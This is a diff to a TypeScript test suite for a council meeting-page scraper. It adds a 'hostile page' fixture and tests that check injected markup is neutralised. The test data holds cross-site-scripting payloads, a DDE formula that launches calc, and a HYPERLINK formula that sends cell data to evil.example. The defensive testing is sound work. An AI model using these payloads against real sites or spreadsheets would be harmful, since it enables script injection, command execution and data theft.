@@ -22,6 +22,7 @@ const PAGES: Record<string, { url: string; kind: PageRecord['kind'] | null }> = 
   'issue-history-2016.html': { url: 'https://www.southampton.gov.uk/modernGov/mgIssueHistoryHome.aspx?IId=21466&Opt=0', kind: 'issue' },
   'not-moderngov-council-news.html': { url: 'https://www.examplecouncil.gov.uk/news/council-meetings-this-week', kind: null },
   'meeting-no-items.html': { url: 'https://democracy.example-council.gov.uk/ieListDocuments.aspx?CId=1&MId=2&Ver=4', kind: 'meeting' },
+  'hostile-meeting.html': { url: 'https://democracy.hostile.example/ieListDocuments.aspx?CId=9&MId=666&Ver=4', kind: 'meeting' },
 };
 
 function read(name: string): Extraction {
@@ -288,6 +289,30 @@ describe('other ModernGov pages', () => {
     expect(issue.meetings.map((m) => [m.meetingId, m.date])).toEqual([
       ['7105', '2016-11-03'],
       ['6891', '2015-10-22'],
+    ]);
+  });
+});
+
+describe('a page with hostile text', () => {
+  const record = as('hostile-meeting.html', 'meeting');
+
+  it('keeps markup in the text as text, and drops script and image elements', () => {
+    expect(record.committee.name).toBe('Cabinet <img src=x onerror="window.__pwned=1">');
+    expect(record.meeting.venue).toBe('<script>window.__pwned=1</script>Town Hall');
+    expect(record.items[0]?.minutes).not.toContain('__pwnedByPage');
+    expect(record.items[0]?.clauses.map((c) => [c.label, c.text])).toEqual([
+      ['(i)', "=cmd|' /C calc'!A0"],
+      ['(ii)', '+SUM(1,2) and @SUM(A1) and -1+1'],
+      ['(iii)', '<a href="javascript:window.__pwned=1">a link</a> that the report be noted.'],
+    ]);
+  });
+
+  it('never keeps a link to a javascript: or data: address', () => {
+    const item = record.items[0];
+    expect(item?.title).toBe('=HYPERLINK("http://evil.example/?"&A1,"Click")');
+    expect(item?.documents).toEqual([
+      { title: 'Appendix A', url: null },
+      { title: 'Appendix B', url: 'https://democracy.hostile.example/documents/s1/Appendix%20B.pdf' },
     ]);
   });
 });
